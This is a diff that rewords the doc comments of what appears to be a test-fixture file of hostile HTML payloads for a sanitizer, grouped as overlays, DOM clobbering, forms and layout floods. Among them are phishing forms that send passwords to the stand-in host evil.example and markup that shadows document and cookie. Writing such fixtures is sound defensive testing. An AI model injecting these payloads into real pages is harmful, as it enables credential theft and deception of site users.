@@ -1,4 +1,4 @@
-/** Style that covers the app, steals what is typed, or looks like the app. */
+/** Styles that cover the app, steal input, or imitate the app. */
 export const styling = [
   '<div style="position:fixed;inset:0;background:red;z-index:99999">Log in</div>',
   '<div style="position:absolute;top:-500px;left:0;width:9999px;height:9999px;background:red">x</div>',
@@ -35,7 +35,7 @@ export const styling = [
   '<p role="dialog" aria-modal="true">x</p>',
 ];
 
-/** Names that take the place of the page's own. */
+/** Names that override those of the page. */
 export const clobbering = [
   '<img id=alert><img name=body src=x>',
   '<form id=document><input name=cookie></form>',
@@ -60,7 +60,7 @@ export const clobbering = [
   '<a href="#app">x</a><p id=app>x</p><a href="#cookie">x</a><a name=cookie></a><a href="#content">x</a>',
 ];
 
-/** Forms, and what looks like the page asking for something. */
+/** Forms, and markup that imitates a request by the page. */
 export const forms = [
   '<form action="https://evil.example/"><input name=password type=password><button>Log in</button></form>',
   '<form method=post action="https://evil.example/" target=_top><input type=submit value="Log in"></form>',
@@ -80,7 +80,7 @@ export const forms = [
   '<form><isindex prompt="Password"></form>',
 ];
 
-/** Whatever widens, floods or hides the page. */
+/** Markup that widens, floods or hides the page. */
 export const layout = [
   `<p>${'x'.repeat(20_000)}</p>`,
   `<pre>${'x'.repeat(20_000)}</pre>`,
